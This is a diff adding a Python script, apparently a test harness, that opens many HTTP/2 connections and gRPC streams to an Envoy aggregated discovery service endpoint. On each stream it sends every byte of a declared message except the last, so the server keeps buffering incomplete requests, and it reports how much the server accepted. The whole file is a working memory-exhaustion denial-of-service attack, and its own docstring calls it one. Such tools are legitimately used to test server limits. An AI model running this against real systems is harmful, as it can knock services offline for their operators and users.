@@ -1,0 +1,101 @@
+"""A process that begins gRPC messages and never ends them: ADDRESS CONNECTIONS STREAMS SIZE.
+
+Each stream sends all but the last byte of its message. When that is done, or the server ended the streams, it
+prints the bytes sent and the streams ended, and waits for the end of its input.
+"""
+
+import selectors
+import socket
+import struct
+import sys
+from typing import Final
+
+from h2.config import H2Configuration
+from h2.connection import H2Connection
+from h2.events import StreamEnded, StreamReset
+from h2.exceptions import ProtocolError
+
+METHOD: Final = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"
+_PAYLOAD: Final = b"\x0a" * 65_536
+_SETTLE_S: Final = 2.0
+
+
+class Connection:
+    """One connection; ``left`` is the number of bytes to send, by stream."""
+
+    def __init__(self, host: str, port: int, streams: int, size: int) -> None:
+        self.socket = socket.create_connection((host, port))
+        self._h2 = H2Connection(H2Configuration(client_side=True, header_encoding="utf-8"))
+        self._h2.initiate_connection()
+        self.left: dict[int, int] = {}
+        self.sent = 0
+        self.ended: set[int] = set()
+        for _ in range(streams):
+            number = self._h2.get_next_available_stream_id()
+            headers = [(":method", "POST"), (":scheme", "http"), (":path", METHOD), (":authority", "x")]
+            self._h2.send_headers(number, [*headers, ("te", "trailers"), ("content-type", "application/grpc")])
+            self._h2.send_data(number, struct.pack(">BI", 0, size))
+            self.left[number] = size - 1
+        self.flush()
+
+    def flush(self) -> None:
+        """Send what flow control allows."""
+        for number in list(self.left):
+            while self.left.get(number):
+                room = min(
+                    self._h2.local_flow_control_window(number),
+                    self._h2.max_outbound_frame_size,
+                    self.left[number],
+                    len(_PAYLOAD),
+                )
+                if room <= 0:
+                    break
+                self._h2.send_data(number, _PAYLOAD[:room])
+                self.sent += room
+                self.left[number] -= room
+            if not self.left[number]:
+                del self.left[number]
+        self.socket.sendall(self._h2.data_to_send())
+
+    def read(self) -> bool:
+        """Process what arrived; whether the connection is still open."""
+        try:
+            data = self.socket.recv(65_536)
+            for event in self._h2.receive_data(data) if data else ():
+                if isinstance(event, StreamEnded | StreamReset):
+                    self.ended.add(event.stream_id)
+                    self.left.pop(event.stream_id, None)
+            self.flush()
+        except (OSError, ProtocolError):
+            data = b""
+        if not data:
+            self.left.clear()
+        return bool(data)
+
+
+def main(address: str, connections: int, streams: int, size: int) -> None:
+    """Attack, report, and wait."""
+    host, _, port = address.rpartition(":")
+    selector = selectors.DefaultSelector()
+    made = [Connection(host, int(port), streams, size) for _ in range(connections)]
+    for one in made:
+        selector.register(one.socket, selectors.EVENT_READ, one)
+    reported = False
+    selector.register(sys.stdin, selectors.EVENT_READ, None)
+    while True:
+        events = selector.select(_SETTLE_S)
+        if not events and not reported:
+            # Neither answers nor room for more: what the server takes, it has.
+            reported = True
+            ended = sum(len(one.ended) for one in made)
+            sys.stdout.write(f"{sum(one.sent for one in made)} {ended}\n")
+            sys.stdout.flush()
+        for key, _ in events:
+            if key.data is None:
+                return
+            if not key.data.read():
+                selector.unregister(key.fileobj)
+
+
+if __name__ == "__main__":
+    main(sys.argv[1], *map(int, sys.argv[2:]))
